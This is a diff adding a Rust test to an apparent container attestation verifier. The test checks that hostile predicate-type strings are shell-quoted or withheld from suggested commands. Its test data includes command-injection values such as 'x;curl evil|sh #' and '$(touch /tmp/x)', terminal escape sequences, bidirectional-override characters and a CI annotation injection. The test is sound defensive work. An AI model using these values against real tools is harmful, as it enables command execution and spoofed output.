@@ -314,6 +314,31 @@ fn an_attestation_alone_is_no_signature() {
 }
 
 #[test]
+fn a_predicate_type_of_a_stranger_is_quoted_for_the_shell_or_not_offered() {
+    let setup = Setup::new();
+    let long = format!("https://evil.example/{}", "x".repeat(400));
+    for (number, hostile, offered) in [
+        (0, "x;curl evil|sh #", Some("--type 'x;curl evil|sh #' ")),
+        (1, "$(touch /tmp/x)", Some("--type '$(touch /tmp/x)' ")),
+        (2, "it's `id`", Some("--type \"it's \\`id\\`\" ")),
+        (3, &long, Some(&*format!("--type {long} "))),
+        (4, "https://evil.example/\u{1b}[2J", None),
+        (5, "https://evil.example/\u{202e}gpj", None),
+        (6, "https://evil.example/\u{9b}x", None),
+        (7, "https://evil.example/a\n::warning::", None),
+    ] {
+        let image = setup.image(&format!("demo/app{number}"));
+        setup.attach(&image, &statement_bundle(hostile));
+        let verify = setup.program().args(["verify", &image]).args(setup.by_workload());
+        let done = verify.run().ends(10);
+        match offered {
+            Some(text) => _ = done.says(&[text]).hides("--type x;").hides("--type $"),
+            None => _ = done.hides("--type").hides(hostile),
+        }
+    }
+}
+
+#[test]
 fn a_signature_by_a_key_lacks_the_certificate() {
     let setup = Setup::new();
     let image = setup.image("demo/app");
